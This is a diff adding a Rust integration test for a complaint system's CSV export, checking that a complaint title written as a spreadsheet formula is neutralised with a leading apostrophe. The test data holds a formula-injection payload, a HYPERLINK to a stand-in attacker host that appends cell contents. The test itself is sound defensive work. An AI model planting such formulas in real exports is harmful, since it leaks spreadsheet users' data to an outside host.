@@ -832,6 +832,34 @@ async fn the_inbox_exports_as_csv_with_phones_masked() {
 }
 
 #[actix_web::test]
+async fn a_title_written_as_a_formula_is_exported_inert() {
+    let app = TestApp::new().await;
+    let admin = app.admin().await;
+    let compound = app.compound().create().await;
+    let attack = "=HYPERLINK(\"http://evil.example/\"&A1,\"点此查看\")";
+    app.complaint(compound.id)
+        .title(attack)
+        .phone("13700001234")
+        .create()
+        .await;
+    let res = app
+        .get(&format!("/api/v1/complaints/export?compound_id={}", compound.id))
+        .bearer(&admin)
+        .send()
+        .await;
+    res.assert_status(200);
+    assert!(
+        res.header("content-disposition")
+            .is_some_and(|d| d.contains("filename*=UTF-8''%E8%AF%89%E6%B1%82.csv"))
+    );
+    let text = res.text();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().flatten().collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0].get(3), Some(format!("'{attack}").as_str()));
+}
+
+#[actix_web::test]
 async fn inactive_categories_are_listed_for_configuration_only() {
     let app = TestApp::new().await;
     let admin = app.token_for("admin").await;
